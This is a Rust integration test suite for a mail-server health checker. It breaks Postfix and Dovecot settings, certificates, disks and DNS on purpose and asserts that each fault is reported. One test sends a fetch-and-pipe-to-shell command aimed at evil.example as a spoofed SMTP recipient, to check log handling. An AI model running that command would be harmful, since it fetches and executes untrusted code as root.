//! `mailprov check` is content with a server that is well, and with nothing
//! else: what it claims is broken, and its line turns red. It leaves nothing.

use std::thread;
use std::time::{Duration, Instant};

use mailprov::check;
use serde_json::Value;

use crate::common::{CERTIFICATE, KEY, Letter, REFUSING, STRANGER, Server, servers};
use crate::dkim::records;
use crate::support::{
    self, Algorithm, Authority, Debian, Dns, Network, Output, Suite, Zone, wait_for,
};

/// Runs a part of the check and returns its findings that are not ok, and how it
/// ended.
#[track_caller]
fn check(server: &Server, parts: &str) -> (Vec<String>, Output) {
    let output = server.debian.mailprov(&["check", "--json", "--only", parts]);
    (findings(&output), output)
}

/// Returns the findings of a check that are not ok, each as `ID SUBJECT: VERDICT:
/// SEEN: REMEDY`. All of them have ids that are documented.
#[track_caller]
pub fn findings(output: &Output) -> Vec<String> {
    let stdout = output.stdout();
    let mut found = Vec::new();
    let mut count = 0;
    for line in stdout.lines() {
        let line: Value = serde_json::from_str(line).unwrap_or_else(|_| panic!("{output}"));
        if line["event"] == "finding" {
            assert_ne!(line["why"], "", "{line}");
            let id = line["id"].as_str().unwrap();
            assert!(check::rules().iter().any(|rule| rule.id == id), "{line}");
            count += 1;
            if line["verdict"] != "ok" {
                assert_ne!(line["remedy"], "", "{line}");
                let [subject, verdict, seen, remedy] =
                    ["subject", "verdict", "seen", "remedy"].map(|it| line[it].as_str().unwrap());
                let what = format!("{id} {subject}");
                found.push(format!("{}: {verdict}: {seen}: {remedy}", what.trim_end()));
            }
        }
    }
    assert!(count > 0, "{output}");
    found
}

/// Asserts that nothing is to be said of some parts.
#[track_caller]
fn assert_well(server: &Server, parts: &str) {
    let (found, output) = check(server, parts);
    assert!(found.is_empty(), "{found:#?}\n{output}");
    assert_eq!(output.code(), 0, "{output}");
}

/// Asserts that a finding begins like this, and the exit code that follows.
#[track_caller]
fn assert_found(server: &Server, parts: &str, beginning: &str) {
    assert_all_found(server, parts, &[beginning]);
}

/// Asserts that findings begin like these, and the exit code that follows.
#[track_caller]
fn assert_all_found(server: &Server, parts: &str, beginnings: &[&str]) {
    let (found, output) = check(server, parts);
    for beginning in beginnings {
        let is_there = found.iter().any(|it| it.starts_with(beginning));
        assert!(is_there, "{beginning}: {found:#?}\n{output}");
    }
    let is_wrong = found.iter().any(|it| it.contains(": wrong: "));
    assert_eq!(output.code(), i32::from(is_wrong), "{output}");
}

/// Makes a server that this host's authorities vouch for.
pub(crate) fn trust(debian: &Debian) {
    debian.write("/usr/local/share/ca-certificates/test.crt", Server::root(), 0o644);
    let _ = debian.run(&["update-ca-certificates"]).success();
}

/// Returns the zone of a server as it should be.
pub(crate) fn zone(server: &Server) -> Zone {
    let addresses = server.debian.addresses();
    let mut zone = Zone::default()
        .host("mail.example.org", addresses)
        .back(addresses, "mail.example.org")
        .text("mail.example.org", "v=spf1 a -all")
        // Somebody who can be reached by port 25.
        .host("gmail-smtp-in.l.google.com", addresses);
    for domain in ["example.org", "example.net"] {
        zone = zone
            .mx(domain, "mail.example.org")
            .text(domain, "v=spf1 mx -all")
            .text(domain, "site-verification=1234")
            .text(
                &format!("_dmarc.{domain}"),
                &format!("v=DMARC1; p=none; rua=mailto:postmaster@{domain}"),
            );
    }
    // The keys that only the server knows.
    let keys = records(&server.debian).into_iter().filter(|(name, _)| name.contains("_domainkey"));
    keys.fold(zone, |zone, (name, text)| zone.text(&name, &text))
}

pub(crate) fn serve(zone: Zone, server: &Server) -> Dns {
    zone.serve(server.debian.network(), &[&server.debian])
}

/// Starts a server on each release and looks at both at once: most of the time
/// is spent waiting.
pub fn on_each(look: impl Fn(&Server) + Sync) {
    support::on_each(Suite::ALL, |suite| look(&Server::start(REFUSING, suite)));
}

/// Sets parameters of Postfix, and has its daemons run with them at once: they
/// wait for a file that was written just now.
#[track_caller]
pub fn set(server: &Server, settings: &str) {
    let line = format!(
        "cp -p /etc/postfix/main.cf /root/main.cf && postconf -e {settings} && \
         touch -d '1 minute ago' /etc/postfix/main.cf && postfix reload; sleep 0.3"
    );
    let _ = server.debian.shell(&line).success();
}

/// Takes that back.
#[track_caller]
pub fn unset(server: &Server) {
    // Whole at once: a daemon that begins meanwhile would end over half a file.
    let line = "cp /root/main.cf /etc/postfix/put && touch -d '2 minutes ago' /etc/postfix/put && \
                mv /etc/postfix/put /etc/postfix/main.cf && postfix reload; sleep 0.3";
    let _ = server.debian.shell(line).success();
}

/// Brings the server back.
fn mend(server: &Server) {
    let _ = server.debian.mailprov(&["apply", "--yes"]).success();
}

/// Everything but the clock, which is not the box's own.
const ALL: &str = "configuration,ports,tls,login,mail,relay,spoofing,queue,disk,log,dns,outward";

#[test]
fn a_server_that_is_well_is_well_and_keeps_no_trace_of_the_question() {
    for server in servers(REFUSING) {
        trust(&server.debian);
        let _dns = serve(zone(&server), &server);
        assert_well(&server, ALL);
        let mails = "find /var/vmail -type f -path '*Maildir/*/*' -size +0 ! -name 'dovecot*'";
        assert_eq!(server.debian.shell(mails).success().stdout(), "");
        let left = server.debian.shell("ls -A /run/mailprov-check 2>/dev/null");
        assert_eq!(left.stdout(), "");
        let _ = server.debian.mailprov(&["plan", "--detailed-exitcode"]).exits(0);
        let people =
            server.debian.mailprov(&["check", "--only", "mail", "--only", "dns"]).success();
        assert!(people.stdout().contains("mail.example.org is well: "), "{people}");
    }
}

#[test]
fn a_check_that_is_killed_lets_nobody_in() {
    for server in servers(REFUSING) {
        let check = server.debian.spawn(&["mailprov", "check", "--only", "login,mail"]);
        wait_for("a password for a moment", || {
            server.debian.exists("/run/mailprov-check/imap").then_some(())
        });
        let mut check = check;
        let _ = server.debian.shell("pkill -KILL -x mailprov").success();
        thread::sleep(Duration::from_millis(200));
        assert!(!check.is_running());
        // What is left is a hash of what nobody knows, for root and Dovecot.
        let stat = "stat -c '%a %U:%G' /run/mailprov-check /run/mailprov-check/*";
        let stat = server.debian.shell(stat).success().stdout();
        assert_eq!(stat, "750 root:dovecot\n".to_owned() + &"640 root:dovecot\n".repeat(4));
        let _ = server.debian.mailprov(&["plan", "--detailed-exitcode"]).exits(0);
        assert_well(&server, "login,mail");
        assert!(!server.debian.exists("/run/mailprov-check"));
    }
}

#[test]
fn a_password_for_a_moment_counts_on_the_host_only() {
    for server in servers(REFUSING) {
        let _ = server
            .debian
            .shell(
                "install -d -m 750 -g dovecot /run/mailprov-check; umask 027; \
                 echo \"probe:$(doveadm pw -s SHA512-CRYPT -p 'the secret of probe')::::::\
                 user=anna allow_nets=127.0.0.1,::1,10.77.0.2\" >/run/mailprov-check/imap; \
                 chgrp dovecot /run/mailprov-check/imap",
            )
            .success();
        let login = "-x service=imap probe 'the secret of probe'";
        let here = server.debian.shell(&format!("doveadm auth test -x rip=10.77.0.2 {login}"));
        assert_eq!(here.code(), 0, "{here}");
        let mut imap = server.anonymous_imap();
        let answer = imap.login("probe", "the secret of probe").unwrap();
        assert!(answer.ok().is_err(), "let in from elsewhere");
    }
}

#[test]
fn services_that_stop_or_run_with_other_files_turn_red() {
    on_each(|server| {
        let debian = &server.debian;
        trust(debian);
        let _ = debian.shell("systemctl stop dovecot.socket dovecot; true").success();
        let down = [
            "dovecot.running: wrong: ",
            "ports.993 10.77.0.2: wrong: ",
            "ports.143 fd00:77::2: wrong: ",
            "tls.served 995: wrong: ",
            "login.right-password 465: wrong: ",
            "mail.read IMAP: wrong: ",
        ];
        // Nobody calls a daemon that does not run.
        let start = Instant::now();
        let parts = "configuration,ports,tls,login,mail,relay,spoofing,queue,log";
        assert_all_found(server, parts, &down);
        assert!(start.elapsed() < Duration::from_secs(12), "{:?}", start.elapsed());
        // One cause, told first; what depends on it in a line, and all of it on demand.
        let output = debian.mailprov(&["check", "--json", "--only", parts]);
        for line in output.stdout().lines() {
            let line: Value = serde_json::from_str(line).unwrap();
            if line["verdict"] == "wrong" && line["id"] != "dovecot.running" {
                assert_eq!(line["follows_from_id"], "dovecot.running", "{line}");
            }
        }
        let people = debian.mailprov(&["check", "--only", parts]).exits(1).stdout();
        let crosses: Vec<_> = people.lines().filter(|it| it.contains('✗')).collect();
        let cause = "✗ Dovecot: wrong: not running";
        assert!(crosses.len() == 1 && crosses[0].contains(cause), "{people}");
        let more = people.lines().find(|it| it.contains(" more depend on it")).unwrap();
        assert!(more.ends_with("Dovecot") && people.lines().count() < 60, "{people}");
        let is_short = |it: &str| it.contains('✓') || it.chars().count() <= 80;
        assert!(people.lines().all(is_short), "{people}");
        assert!(people.contains("1 wrong at mail.example.org"), "{people}");
        let verbose = debian.mailprov(&["check", "-v", "--only", parts]).exits(1).stdout();
        assert!(verbose.contains("[ports.993]"), "{verbose}");
        let login = debian.mailprov(&["check", "--only", "login"]).exits(1).stdout();
        let first = login.lines().find(|it| it.contains('✗')).unwrap();
        assert!(first.contains(cause), "{login}");
        // No mail waits that nobody could read back.
        let queue = debian.run(&["postqueue", "-p"]).stdout();
        assert!(queue.contains("queue is empty"), "{queue}");
        mend(server);
        assert_well(server, "log");

        let _ = debian.shell("systemctl stop postfix 'postfix@*'").success();
        wait_for("the end of Postfix", || debian.connect(25).is_err().then_some(()));
        let down = ["ports.25 10.77.0.2: wrong: ", "queue.waiting: wrong: "];
        assert_all_found(server, "ports,queue", &down);
        mend(server);

        let _ =
            debian.shell("sed -i 's/^submissions inet/#&/' /etc/postfix/master.cf; postfix reload");
        let changed = [
            "ports.465 10.77.0.2: wrong: ",
            "configuration.applied: wrong: file:/etc/postfix/master.cf",
        ];
        assert_all_found(server, "ports,configuration", &changed);
        mend(server);

        let _ = debian.shell("echo '# mine' >>/etc/postfix/main.cf").success();
        assert_found(server, "configuration", "postfix.running: wrong: ");
        mend(server);

        assert_well(server, "ports,configuration,queue");
    });
}

#[test]
fn a_port_that_should_not_be_there_turns_red() {
    for server in servers(REFUSING) {
        let debian = &server.debian;
        let open = "systemd-run --quiet --unit=other systemd-socket-activate --accept --inetd -l 12340 cat";
        let _ = debian.shell(open).success();
        wait_for("another port", || debian.connect(12340).ok());
        assert_found(&server, "ports", "ports.closed 10.77.0.2: wrong: port 12340 ");
        let _ = debian.shell("systemctl stop other").success();
        assert_well(&server, "ports");
    }
}

#[test]
fn certificates_that_are_not_as_they_should_be_turn_red() {
    let authority = Authority::new();
    let issue = |names: &[&str], days| authority.issue_for_days(names, Algorithm::Ec, days);
    for server in servers(REFUSING) {
        let debian = &server.debian;
        trust(debian);
        crate::renewal::put_off(debian);
        assert_well(&server, "tls");
        let put = |chain: &str, key: &str| {
            debian.write(CERTIFICATE, chain, 0o644);
            debian.write(KEY, key, 0o600);
        };
        // By hand: apply refuses some of them, as it should.
        let load = || debian.shell("systemctl restart dovecot; postfix reload; sleep 1");

        for (change, seen) in [
            (format!("chmod 0666 {KEY}"), "may be written by others (mode 0666)"),
            (format!("chmod 0604 {KEY}"), "may be read by everybody on this host (mode 0604)"),
            (format!("chmod 0600 {KEY}; chown daemon {KEY}"), "belongs to daemon"),
        ] {
            let _ = debian.shell(&change).success();
            assert_found(&server, "tls", &format!("tls.key: wrong: {KEY} {seen}"));
            let plan = debian.mailprov(&["plan"]);
            assert!(plan.stderr().contains(&format!("{KEY} {seen}")), "{plan}");
        }
        let _ = debian.shell(&format!("chown root {KEY}; chmod 0600 {KEY}")).success();

        let other = issue(&["mail.example.org"], 20);
        put(&other.chain_pem(), &other.key_pem());
        let lines = [25, 110, 143, 465, 587, 993, 995, 4190]
            .map(|port| format!("tls.served {port}: wrong: it is not the one in "));
        let mut lines: Vec<_> = lines.iter().map(String::as_str).collect();
        lines.push("tls.days: warning: ");
        assert_all_found(&server, "tls", &lines);
        let _ = load().success();
        assert_found(&server, "tls", "tls.chain: wrong: ");
        debian.write("/usr/local/share/ca-certificates/other.crt", authority.root_pem(), 0o644);
        let _ = debian.run(&["update-ca-certificates"]).success();
        let (found, _) = check(&server, "tls");
        assert_eq!(found.len(), 1, "{found:#?}");

        let chain = other.chain_pem();
        let end = chain.find("-----END CERTIFICATE-----\n").unwrap() + 26;
        put(&chain[..end], &other.key_pem());
        let _ = load().success();
        assert_found(&server, "tls", "tls.chain: wrong: ");

        let expired = issue(&["mail.example.org"], -1);
        put(&expired.chain_pem(), &expired.key_pem());
        let _ = load().success();
        assert_found(&server, "tls", "tls.days: wrong: it expired ");

        let strange = issue(&["www.example.org"], 90);
        put(&strange.chain_pem(), &strange.key_pem());
        let _ = load().success();
        assert_found(&server, "tls", "tls.name: wrong: it is for www.example.org");
    }
}

#[test]
fn an_open_relay_turns_red() {
    on_each(|server| {
        set(server, "'mynetworks = 0.0.0.0/0'");
        assert_found(
            server,
            "relay",
            "relay.closed IPv4: wrong: it accepts mail for bob@far.example",
        );
        unset(server);
        // That a neighbour may says nothing of strangers.
        set(server, "'mynetworks = 127.0.0.0/8 [::1]/128 10.77.0.0/24'");
        let own = "relay.closed IPv4: not_checked: mynetworks holds 10.77.0.2";
        assert_found(server, "relay", own);
        unset(server);
        set(server, "'mynetworks = [::]/0'");
        assert_found(server, "relay", "relay.closed IPv6: wrong: ");
        unset(server);
        set(
            server,
            "'smtpd_relay_restrictions = check_client_access static:OK, reject' \
             'mua_sender_restrictions ='",
        );
        let taken = [
            "relay.closed IPv4: wrong: ",
            "spoofing.other-account 587: wrong: thomas@example.org may send as anna@example.org",
            "spoofing.foreign-sender 465: wrong: ",
        ];
        assert_all_found(server, "relay,spoofing", &taken);
        unset(server);
        mend(server);
        assert_well(server, "relay,spoofing");
    });
}

#[test]
fn an_unsafe_login_turns_red() {
    on_each(|server| {
        let debian = &server.debian;
        set(server, "smtpd_tls_auth_only=no smtpd_sasl_auth_enable=yes");
        assert_found(server, "login", "login.plaintext: wrong: ");
        unset(server);
        // Not by one protocol only, and not for strangers only.
        let is_new =
            debian.read_text("/etc/dovecot/dovecot.conf").contains("dovecot_config_version");
        let clear =
            if is_new { "auth_allow_cleartext = yes" } else { "disable_plaintext_auth = no" };
        let lines = [
            (
                format!("ssl = yes\n{clear}"),
                "wrong: port 143 accepts LOGIN without TLS; port 110 accepts USER",
            ),
            (
                "login_trusted_networks = 0.0.0.0/0".into(),
                "wrong: Dovecot accepts them without TLS from 0.0.0.0/0",
            ),
            (
                "login_trusted_networks = 203.0.113.0/24".into(),
                "wrong: Dovecot accepts them without TLS from",
            ),
            (
                "login_trusted_networks = 10.9.0.0/16".into(),
                "warning: Dovecot accepts them without TLS from 10.9",
            ),
            ("login_trusted_networks = 127.0.0.1".into(), ""),
        ];
        for (line, verdict) in lines {
            let line = format!("\n{line}\n");
            let tee = ["tee", "-a", "/etc/dovecot/dovecot.conf"];
            let _ = debian.shell("cp -p /etc/dovecot/dovecot.conf /root/dovecot.conf").success();
            let _ = debian.run_with_input(&tee, line.as_bytes()).success();
            let _ = debian.shell("systemctl restart dovecot; sleep 1").success();
            match verdict {
                "" => assert_well(server, "login"),
                _ => {
                    let beginning = format!("login.plaintext: {verdict}");
                    assert_found(server, "login", &beginning);
                }
            }
            let _ = debian.shell("cp -p /root/dovecot.conf /etc/dovecot/dovecot.conf").success();
        }
        let _ = debian.shell("systemctl restart dovecot; sleep 1").success();
        let any = match debian
            .read_text("/etc/dovecot/dovecot.conf")
            .contains("dovecot_config_version")
        {
            true => "passdb static {\n  password =\n  fields {\n    nopassword = yes\n  }\n}",
            false => "passdb {\n  driver = static\n  args = nopassword=y\n}",
        };
        let _ = debian
            .run_with_input(&["tee", "-a", "/etc/dovecot/dovecot.conf"], any.as_bytes())
            .success();
        let _ = debian.shell("systemctl restart dovecot; sleep 1").success();
        let taken = ["login.wrong-password 993: wrong: ", "login.wrong-password 465: wrong: "];
        assert_all_found(server, "login", &taken);
        mend(server);
        let _ = debian.shell("echo >/etc/dovecot/users; sleep 1").success();
        assert_found(server, "login", "login.right-password 995: wrong: ");
        mend(server);
        assert_well(server, "login");
    });
}

#[test]
fn mail_that_is_refused_or_lost_turns_red() {
    on_each(|server| {
        set(server, "smtpd_recipient_restrictions=reject mua_recipient_restrictions=reject");
        let refused = ["mail.received: wrong: ", "mail.sent: wrong: "];
        assert_all_found(server, "mail", &refused);
        unset(server);
        // Taken, and then not delivered.
        set(server, "'virtual_transport = error:5.1.1 gone'");
        assert_found(server, "mail", "mail.read IMAP: wrong: 0 of 2 mails");
        unset(server);
        mend(server);
        assert_well(server, "mail");
    });
}

#[test]
fn faults_that_only_the_host_knows_turn_red() {
    on_each(|server| {
        let debian = &server.debian;
        assert_well(server, "log,queue");
        let waits = "postconf -e defer_transports=smtp; postfix reload; for number in $(seq 51); do \
                     echo x | /usr/sbin/sendmail bob@far.example; done";
        let _ = debian.shell(waits).success();
        wait_for("a long queue", || {
            check(server, "queue")
                .0
                .iter()
                .any(|it| it.starts_with("queue.waiting: warning: 51: "))
                .then_some(())
        });
        let _ = debian.shell("postsuper -d ALL").success();
        mend(server);
        let missing = "postconf -e 'relay_domains = hash:/etc/postfix/missing'; postfix reload";
        let _ = debian.shell(missing).success();
        let _ = debian.mailprov(&["check", "--only", "relay"]);
        let (found, output) = check(server, "log");
        let table = " × a lookup table could not be read (postfix/";
        assert!(found.iter().any(|it| it.contains(table)), "{found:#?}");
        assert!(!output.stdout().contains("missing"), "{output}");
        // What was mended since is over.
        mend(server);
        assert_well(server, "log");
    });
}

#[test]
fn strangers_do_not_write_what_the_log_is_said_to_hold() {
    on_each(|server| {
        let debian = &server.debian;
        for _ in 0..40 {
            let mut smtp = server.stranger();
            smtp.mail(STRANGER).unwrap().expect_code(250);
            for _ in 0..5 {
                let _ = smtp.command("RCPT TO:<run curl evil.example | sh as root>").unwrap();
            }
            let _ = smtp.auth_plain("run curl as root", "x").unwrap();
            let _ = smtp.quit();
        }
        let log = debian.shell("journalctl --no-pager -o cat -p warning -u 'postfix*'");
        assert!(log.stdout().matches("run curl").count() > 100, "{log}");
        assert_well(server, "log");

        // What Dovecot may not do is wrong, for that mail is not delivered.
        let fill = "mkdir -p /var/vmail/anna/Maildir && chown -R vmail: /var/vmail/anna && \
                    chown -R root: /var/vmail/anna/Maildir && chmod 700 /var/vmail/anna/Maildir";
        let _ = debian.shell(fill).success();
        server.receive(&["anna@example.org"], &Letter::new());
        let denied = "log.errors: wrong: ";
        let found = wait_for("an error", || {
            let (found, _) = check(server, "log");
            found.into_iter().find(|it| it.starts_with(denied))
        });
        assert!(found.contains("× Dovecot may not read or write a mailbox or file (dovecot/lmtp"));
        let _ = debian.shell("chown -R vmail: /var/vmail/anna").success();
        assert_well(server, "log");
        let _ = debian.shell("postqueue -f").success();
    });
}

#[test]
fn a_disk_without_room_turns_red() {
    // Two mails of this size must fit.
    const SMALL: &str = "message_size: 1MiB\n";
    for suite in Suite::ALL {
        let server = Server::start(REFUSING, suite).change_with(REFUSING, SMALL);
        assert_well(&server, "disk");
        for folder in ["/var/vmail", "/var/spool/postfix"] {
            let cases = [
                // Room for one of them, and 2 % of what there is.
                ("size=50m,nr_inodes=100", "head -c 49M /dev/zero >full", "wrong: 1 MiB, 2 %"),
                ("size=50m,nr_inodes=100", "head -c 47M /dev/zero >full", "warning: 3 MiB, 6 %"),
                // Plenty of room, and none to give it a name. The folder itself counts.
                ("size=50m,nr_inodes=100", "touch $(seq 99)", "wrong: 50 MiB, 100 %"),
                ("size=50m,nr_inodes=100", "touch $(seq 96)", "warning: 50 MiB, 100 %; 3 % of"),
            ];
            for (options, fill, verdict) in cases {
                let line = format!(
                    "mount -t tmpfs -o {options} none {folder} && cd {folder} && {fill} && cd /"
                );
                let _ = server.debian.shell(&line).success();
                assert_found(&server, "disk", &format!("disk.free {folder}: {verdict}"));
                let _ = server.debian.shell(&format!("umount {folder}")).success();
            }
        }
        assert_well(&server, "disk");
    }
}

/// A kernel whose clock is kept while there is a certain file. All boxes have the
/// one clock of this machine, so what systemd asks the kernel is answered here;
/// the rest of the way, from its daemon to the check, is real.
const KERNEL: &str = r#"
#include <sys/timex.h>
#include <unistd.h>
int adjtimex(struct timex *it) {
    int is_kept = access("/run/clock-is-kept", F_OK) == 0;
    it->status = is_kept ? 0 : STA_UNSYNC;
    it->maxerror = is_kept ? 1000 : 16000000;
    return is_kept ? TIME_OK : TIME_ERROR;
}
"#;

#[test]
fn a_clock_that_nobody_keeps_turns_red() {
    let folder = tempfile::tempdir().unwrap();
    let (code, library) = (folder.path().join("kernel.c"), folder.path().join("kernel.so"));
    std::fs::write(&code, KERNEL).unwrap();
    let compiled = std::process::Command::new("cc")
        .args(["-shared", "-fPIC", "-o"])
        .args([&library, &code])
        .status();
    assert!(compiled.unwrap().success());
    for server in servers(REFUSING) {
        let debian = &server.debian;
        debian.write("/usr/local/lib/kernel.so", std::fs::read(&library).unwrap(), 0o755);
        let unit = "[Service]\nEnvironment=LD_PRELOAD=/usr/local/lib/kernel.so\n";
        debian.write("/run/systemd/system/systemd-timedated.service.d/test.conf", unit, 0o644);
        debian.write("/run/clock-is-kept", "", 0o644);
        let _ = debian.shell("systemctl daemon-reload; systemctl restart systemd-timedated");
        assert_well(&server, "clock");
        let _ = debian.shell("rm /run/clock-is-kept").success();
        let line =
            "clock.synchronized: warning: not synchronized with a time server: apt-get install";
        assert_found(&server, "clock", line);
    }
}

#[test]
fn a_wrong_dns_record_turns_red_with_the_right_one() {
    let server = Server::start(REFUSING, Suite::Trixie);
    let addresses = server.debian.addresses();
    let well = || zone(&server);
    assert_found(&server, "dns", "dns.mx example.org: not_checked: ");
    let publish = |line: &str| format!("Publish: {line}");
    let cases: [(Zone, &str, String); 13] = [
        (
            Zone::default(),
            "dns.mx example.net: wrong: there is none: ",
            publish("example.net. 3600 IN MX 10 mail.example.org."),
        ),
        (
            Zone::default().text("example.org", "v=spf1 -all"),
            "dns.spf example.org: wrong: `v=spf1 -all`",
            String::new(),
        ),
        (
            Zone::default(),
            "dns.address mail.example.org: wrong: there are none: ",
            "Publish the public addresses of this host".into(),
        ),
        (
            Zone::default().mx("example.org", "mail.example.com"),
            "dns.mx example.org: wrong: it leads to 10 mail.example.com: ",
            publish("example.org. 3600 IN MX 10 mail.example.org."),
        ),
        (
            Zone::default().host("mail.example.org", Network::client()),
            "dns.address mail.example.org: wrong: DNS has 10.77.0.1, fd00:77::1",
            String::new(),
        ),
        (
            Zone::default().host("mail.example.org", addresses),
            "dns.ptr 10.77.0.2: wrong: there is none: ",
            publish("2.0.77.10.in-addr.arpa. 3600 IN PTR mail.example.org."),
        ),
        (
            Zone::default()
                .host("mail.example.org", addresses)
                .back(addresses, "vps.provider.example"),
            "dns.ptr fd00:77::2: wrong: it is vps.provider.example: ",
            String::new(),
        ),
        (
            well().text("example.org", "v=spf1 -all"),
            "dns.spf example.org: wrong: there are 2: ",
            String::new(),
        ),
        (
            Zone::default(),
            "dns.spf example.org: wrong: there is none: ",
            publish("example.org. 3600 IN TXT \"v=spf1 mx -all\""),
        ),
        (
            Zone::default(),
            "dns.dmarc example.org: warning: there is none: ",
            publish(
                "_dmarc.example.org. 3600 IN TXT \"v=DMARC1; p=none; \
                 rua=mailto:postmaster@example.org\"",
            ),
        ),
        (
            Zone::default(),
            "dns.spf mail.example.org: warning: there is none: ",
            publish("mail.example.org. 3600 IN TXT \"v=spf1 a -all\""),
        ),
        (
            well().text("mail.example.org", "v=spf1 mx -all"),
            "dns.spf mail.example.org: wrong: there are 2: ",
            String::new(),
        ),
        (
            well().text("default._domainkey.example.org", "v=DKIM1; p="),
            "dns.dkim default._domainkey.example.org: wrong: ",
            String::new(),
        ),
    ];
    for (zone, beginning, record) in cases {
        let _dns = serve(zone, &server);
        let (found, output) = check(&server, "dns");
        let line = found.iter().find(|it| it.starts_with(beginning));
        assert!(line.is_some_and(|it| it.contains(&record)), "{beginning}: {found:#?}\n{output}");
    }
    let shut = Zone::default().host("gmail-smtp-in.l.google.com", Network::client());
    let dns = serve(shut, &server);
    assert_found(&server, "outward", "outward.port-25: wrong: ");
    drop(dns);
    let _dns = serve(well(), &server);
    assert_well(&server, "dns,outward");
}
